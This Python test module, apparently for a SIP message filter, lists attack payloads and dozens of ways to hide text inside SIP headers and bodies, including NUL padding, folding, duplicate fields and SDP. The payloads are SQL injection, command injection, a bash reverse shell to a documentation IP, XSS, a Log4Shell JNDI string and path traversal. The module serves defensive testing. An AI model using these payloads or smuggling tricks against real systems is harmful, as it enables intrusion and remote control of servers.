"""Ways of hiding a text in the structure of a message: where a look might end, where it might not begin, and what two readers
read in two ways."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Final, NamedTuple

from disguise import reply
from embed import bare_uri, message, parameter, quoted, userinfo

#: Attacks, each refused or scrubbed wherever it stands in plain sight.
PAYLOADS: Final = (
    b"' or 1=1-- ",
    b"' UNION SELECT password FROM subscriber-- ",
    b"$(reboot)",
    b"x;cat /etc/passwd",
    b"bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
    b"<script>alert(1)</script>",
    b"${jndi:ldap://198.51.100.9/a}",
    b"../../../../etc/passwd",
)
#: What stands there in the legal twins.
HARMLESS: Final = (b"Alice", b"O'Brien", b"Boise", b"1001")


class Way(NamedTuple):
    """A way to hide a text. `legal`: the structure is legal SIP (or common), so that with a harmless text it must pass."""

    make: Callable[[bytes], bytes]
    legal: bool = True


_FILLER: Final = b"".join(b";%c=%%00" % letter for letter in b"abcdefghijklmnop")
_ALICE: Final = b"<sip:alice@example.com>;tag=1"


def _line(text: bytes) -> bytes:
    return text.replace(b"\r", b" ").replace(b"\n", b" ")


def _name(text: bytes) -> bytes:
    return b'"' + quoted(text) + b'" <sip:a@192.0.2.4>'


def _header(name: bytes, text: bytes) -> bytes:
    return message(more=name + b": " + text + b"\r\n")


def _typed(kind: bytes, body: bytes, method: bytes = b"INVITE") -> bytes:
    return message(method=method, more=b"Content-Type: " + kind + b"\r\n" if kind else b"", body=body)


def _session(line: bytes, end: bytes = b"\r\n") -> bytes:
    lines = (
        b"v=0",
        b"o=- 1 1 IN IP4 192.0.2.4",
        b"s=-",
        line,
        b"c=IN IP4 192.0.2.4",
        b"t=0 0",
        b"m=audio 4000 RTP/AVP 0",
    )
    return end.join(lines) + end


def _parts(*parts: bytes, preamble: bytes = b"", epilogue: bytes = b"") -> bytes:
    return preamble + b"".join(b"--b\r\n" + part + b"\r\n" for part in parts) + b"--b--\r\n" + epilogue


def _bearer(text: bytes) -> bytes:
    def packed(value: dict[str, str]) -> bytes:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=")

    claims = {"iss": "https://example.com", "sub": text.decode()}
    return packed({"alg": "HS256", "typ": "JWT"}) + b"." + packed(claims) + b".c2lnbmF0dXJl"


def _many(count: int, header: bytes, text: bytes) -> bytes:
    return message(more=b"".join(b"X-%d: 1\r\n" % number for number in range(count)) + header + b": " + text + b"\r\n")


def _many_reply(count: int, text: bytes) -> bytes:
    lines = b"".join(b"X-%d: 1\r\n" % number for number in range(count))
    return reply(text).replace(b"Server:", lines + b"Server:")


def _params(text: bytes) -> bytes:
    return parameter(text).replace(b"'", b"%27").replace(b"$", b"%24").replace(b"&", b"%26")


def _without_space(text: bytes) -> bytes:
    return text.replace(b" ", b"%20")


#: Name → the way.
WAYS: Final[dict[str, Way]] = {
    # where a look might end
    "behind sixteen escaped NULs in the Request-URI": Way(
        lambda t: message(uri=b"sip:bob@example.com" + _FILLER, from_=b"<sip:" + userinfo(t) + b"@example.com>;tag=1"), False
    ),
    "behind sixteen escaped NULs in a Route": Way(
        lambda t: message(agent=t, more=b"Route: <sip:192.0.2.1;lr" + _FILLER + b">\r\n"), False
    ),
    "behind sixteen escaped NULs in a Via": Way(
        lambda t: message(agent=t, via=b"SIP/2.0/UDP 192.0.2.4;branch=z9hG4bKx" + _FILLER), False
    ),
    "behind forty names with oddities": Way(
        lambda t: message(more=b"".join(b'Contact: "%%00%d" <sip:a@h>\r\n' % n for n in range(40)) + b"Subject: " + t + b"\r\n"),
        False,
    ),
    "behind 6 KB of escapes": Way(lambda t: message(more=b"X-A: " + b"%41" * 2000 + b"\r\nSubject: " + t + b"\r\n"), False),
    "behind 9 KB of names": Way(lambda t: message(more=b"X-A: " + b"Alice Smith " * 750 + b"\r\nSubject: " + t + b"\r\n")),
    "at the end of 4 KB in one value": Way(lambda t: _header(b"X-A", b"Alice Smith " * 340 + t)),
    "behind 20 long values": Way(
        lambda t: message(more=b"".join(b"X-%d: %s\r\n" % (n, b"a" * 500) for n in range(20)) + b"Subject: " + t + b"\r\n")
    ),
    "the last of 100 header fields": Way(lambda t: _many(90, b"Subject", t)),
    "the last of 200 header fields": Way(lambda t: _many(200, b"Subject", t), False),
    "the last of 100 header fields of a reply": Way(lambda t: _many_reply(90, t)),
    "the last of 200 header fields of a reply": Way(lambda t: _many_reply(200, t), False),
    "the fortieth Contact of a list": Way(lambda t: message(contact=b"<sip:a@192.0.2.4>," * 39 + _name(t))),
    "the hundredth Contact of a list": Way(lambda t: message(contact=b"<sip:a@192.0.2.4>," * 99 + _name(t)), False),
    "the last of 40 parameters": Way(
        lambda t: message(from_=b"<sip:a@h>;tag=1" + b"".join(b";p%d=1" % n for n in range(40)) + b';x="' + quoted(t) + b'"')
    ),
    "behind 300 lines of SDP": Way(
        lambda t: _typed(b"application/sdp", _session(b"a=x:1\r\n" * 300 + b"i=" + _line(t)))
    ),
    # names, and parts that are shown as a whole
    "a URI parameter's name": Way(lambda t: message(contact=b"<sip:a@192.0.2.4;" + _params(t) + b">")),
    "a URI parameter's name that has a value": Way(lambda t: message(contact=b"<sip:a@192.0.2.4;" + _params(t) + b"=1>")),
    "a header parameter's name": Way(lambda t: message(from_=_ALICE + b";" + _without_space(t).replace(b"=", b"%3d"))),
    "a Via parameter's name": Way(
        lambda t: message(via=b"SIP/2.0/UDP 192.0.2.4;branch=z9hG4bKx;" + _without_space(t).replace(b"=", b"%3d"))
    ),
    "a digest parameter's name": Way(
        lambda t: _header(b"Authorization", b'Digest username="a", ' + _without_space(t).replace(b"=", b"%3d") + b'="b", realm="c"')
    ),
    "a URI header's name": Way(lambda t: message(contact=b"<sip:a@192.0.2.4?" + _params(t) + b"=1>"), False),
    "a URI header's value": Way(lambda t: message(contact=b"<sip:a@192.0.2.4?Subject=" + _params(t) + b">")),
    "a header field's name": Way(
        lambda t: _header(b"X-" + t.replace(b" ", b"/**/").replace(b":", b"."), b"1"), False
    ),
    "a user and its password": Way(
        lambda t: message(from_=b"<sip:" + userinfo(t)[: len(userinfo(t)) // 2] + b":" + userinfo(t)[len(userinfo(t)) // 2 :] + b"@h>;tag=1"), False
    ),
    "a user across an at sign": Way(lambda t: message(from_=b"<sip:a@" + userinfo(t) + b"@example.com>;tag=1"), False),
    "a comment across the host": Way(lambda t: message(from_=b"<sip:" + userinfo(t) + b"/*@example.com;a=*/>;tag=1"), False),
    "a tel URI's phone-context": Way(lambda t: message(from_=b"<tel:1555;phone-context=" + _params(t) + b">;tag=1")),
    "a URI of another scheme": Way(lambda t: message(from_=b"<im:" + userinfo(t) + b"@example.com>;tag=1")),
    "a URI without brackets": Way(lambda t: message(from_=b"sip:" + _params(t) + b"@example.com;tag=1")),
    "a name without quotes": Way(lambda t: message(from_=t.replace(b"<", b"%3C") + b" <sip:a@example.com>;tag=1")),
    "behind a name-addr": Way(lambda t: message(from_=b"<sip:a@example.com>" + t + b";tag=1"), False),
    "between a name and its address": Way(lambda t: message(from_=b'"Alice" ' + t + b" <sip:a@example.com>;tag=1"), False),
    "escapes in a parameter's name": Way(
        lambda t: message(contact=b"<sip:a@192.0.2.4;%78" + b"".join(b"%%%02x" % byte for byte in t) + b"=1>")
    ),
    # quotes, comments, folding
    # A backslash before a digit is how C writes a control byte, so that it is not harmless though it is legal.
    "every byte behind a backslash": Way(
        lambda t: message(from_=b'"' + b"".join(b"\\%c" % byte for byte in t) + b'" <sip:a@example.com>;tag=1'), False
    ),
    "a quote that is closed early": Way(
        lambda t: message(from_=b'"Alice" "' + quoted(t) + b'" <sip:a@example.com>;tag=1'), False
    ),
    "a quote that stays open": Way(lambda t: message(from_=b'"' + quoted(t) + b" <sip:a@example.com>;tag=1"), False),
    "a bracket in a quoted name": Way(
        lambda t: message(from_=b'"<sip:ceo@example.com>' + quoted(t) + b'" <sip:a@example.com>;tag=1')
    ),
    "a comment": Way(lambda t: message(agent=b"Phone/1.0 (" + t + b")")),
    "a comment in a comment": Way(lambda t: message(agent=b"Phone/1.0 (a (" + t + b"))")),
    "a comment of a Via": Way(
        lambda t: message(via=b"SIP/2.0/UDP 192.0.2.4;branch=z9hG4bKx (" + t.replace(b")", b"\\)").replace(b"(", b"\\(") + b")"), False
    ),
    "folded at every blank": Way(lambda t: _header(b"Subject", b"\r\n " + t.replace(b" ", b"\r\n "))),
    "folded with tabs": Way(lambda t: _header(b"Subject", t.replace(b" ", b"\r\n\t \t"))),
    "folded inside quotes": Way(
        lambda t: message(from_=b'"' + quoted(t).replace(b" ", b"\r\n ") + b'" <sip:a@example.com>;tag=1')
    ),
    "folded by bare line feeds": Way(lambda t: _header(b"Subject", b"\n " + t.replace(b" ", b"\n "))),
    # names of header fields, line ends
    "a compact From": Way(lambda t: message(from_=_name(t) + b";tag=1").replace(b"From: ", b"f:")),
    "a compact To": Way(lambda t: message(to=_name(t)).replace(b"To: ", b"t:")),
    "a compact Contact": Way(lambda t: message(contact=_name(t)).replace(b"Contact: ", b"m:")),
    "a compact Subject": Way(lambda t: _header(b"s", t)),
    "a compact Referred-By": Way(lambda t: _header(b"b", _name(t))),
    "a blank before the colon": Way(lambda t: message(agent=t).replace(b"User-Agent:", b"USER-AGENT\t :")),
    "bare line feeds as line ends": Way(lambda t: _header(b"Subject", t).replace(b"\r\n\r\n", b"\n\n", 1).replace(b"\r\n", b"\n", 11)),
    "a lone CR as a line's end": Way(lambda t: message(agent=b"Phone\rSubject: " + t), False),
    "a lone CR in SDP": Way(lambda t: _typed(b"application/sdp", _session(b"i=" + _line(t), b"\r"))),
    "behind empty lines": Way(lambda t: b"\r\n\r\n" + message(agent=t)),
    "behind a NUL": Way(lambda t: message(agent=b"Phone\x00" + t), False),
    "behind the version": Way(lambda t: message().replace(b" SIP/2.0\r\n", b" SIP/2.0" + t + b"\r\n", 1), False),
    # duplicates and lists
    "a second From": Way(lambda t: _header(b"From", _name(t) + b";tag=2"), False),
    "a second To": Way(lambda t: _header(b"To", _name(t)), False),
    "a second Call-ID": Way(lambda t: _header(b"Call-ID", _without_space(t) + b"@h"), False),
    "a second Contact": Way(lambda t: _header(b"Contact", _name(t))),
    "a second Content-Length": Way(lambda t: message(agent=t, more=b"Content-Length: 0\r\n"), False),
    "a second User-Agent": Way(lambda t: _header(b"User-Agent", t)),
    "the second of two identities": Way(lambda t: _header(b"P-Asserted-Identity", b"<sip:a@example.com>, " + _name(t))),
    "a second Via in a line": Way(
        lambda t: message(via=b'SIP/2.0/UDP 192.0.2.4;branch=z9hG4bKx, SIP/2.0/UDP 192.0.2.9;branch=z9hG4bKy;i="' + quoted(t) + b'"')
    ),
    # header fields with values in values
    "a header in a Refer-To's URI": Way(
        lambda t: message(method=b"REFER", more=b"Refer-To: <sip:a@h?Replaces=" + _params(t) + b">\r\n", body=b"")
    ),
    "an escaped reason in History-Info": Way(
        lambda t: _header(b"History-Info", b"<sip:a@example.com?Reason=SIP%3Btext%3D%22" + _params(t) + b"%22>;index=1")
    ),
    "a Reason's text": Way(lambda t: _header(b"Reason", b'Q.850;cause=16;text="' + quoted(t) + b'"')),
    "a bearer's claim": Way(lambda t: _header(b"Authorization", b"Bearer " + _bearer(t))),
    "an Identity's token": Way(
        lambda t: _header(b"Identity", _bearer(t) + b";info=<https://cert.example.com/a.pem>;alg=ES256;ppt=shaken")
    ),
    "a Call-Info's URL": Way(lambda t: _header(b"Call-Info", b"<https://example.com/" + bare_uri(_without_space(t)) + b">;purpose=info")),
    # bodies
    "SDP without a type": Way(lambda t: _typed(b"", _session(b"i=" + _line(t)))),
    "SDP of another type": Way(lambda t: _typed(b"text/plain", _session(b"i=" + _line(t)))),
    "an attribute of SDP": Way(lambda t: _typed(b"application/sdp", _session(b"a=tool:" + _line(t)))),
    "a key of SDP": Way(lambda t: _typed(b"application/sdp", _session(b"k=prompt " + _line(t)))),
    "a media title of SDP": Way(lambda t: _typed(b"application/sdp", _session(b"t=0 0\r\nm=audio 4000 RTP/AVP 0\r\ni=" + _line(t)))),
    "SDP behind empty lines": Way(lambda t: _typed(b"application/sdp", b"\r\n\r\n" + _session(b"i=" + _line(t)))),
    "SDP in a multipart": Way(
        lambda t: _typed(b"multipart/mixed;boundary=b", _parts(b"Content-Type: text/plain\r\n\r\nhi", b"Content-Type: application/sdp\r\n\r\n" + _session(b"i=" + _line(t))))
    ),
    "a multipart's own header field": Way(
        lambda t: _typed(b"multipart/mixed;boundary=b", _parts(b"Content-Type: application/sdp\r\nContent-Description: " + _line(t) + b"\r\n\r\n" + _session(b"a=x"))), True
    ),
    "a session behind what Content-Length says": Way(
        lambda t: message(body=b"").replace(b"Content-Length: 0", b"Content-Type: application/sdp\r\nContent-Length: 0") + _session(b"i=" + _line(t)), False
    ),
    "a text message": Way(lambda t: _typed(b"text/plain", t, b"MESSAGE")),
    "an INFO": Way(lambda t: _typed(b"application/x-note", t, b"INFO")),
    "a fragment of SIP": Way(lambda t: _typed(b"message/sipfrag", b"SIP/2.0 200 " + _line(t) + b"\r\n", b"NOTIFY")),
    "presence": Way(
        lambda t: _typed(b"application/pidf+xml", b'<presence entity="sip:a@h"><note>' + t.replace(b"<", b"&lt;") + b"</note></presence>", b"PUBLISH")
    ),
    # replies, which can only be scrubbed
    "a reply's reason phrase": Way(lambda t: reply(t, b"SIP/2.0 200 " + t, b"")),
    "a reply's Contact": Way(lambda t: reply(_name(t), header=b"Contact: ")),
    "a reply's second Contact": Way(lambda t: reply(b"<sip:a@192.0.2.4>, " + _name(t), header=b"Contact: ")),
    "a reply's Warning": Way(lambda t: reply(b'399 host "' + quoted(t) + b'"', header=b"Warning: ")),
    "a reply's folded Server": Way(lambda t: reply(t.replace(b" ", b"\r\n "))),
}  # fmt: skip
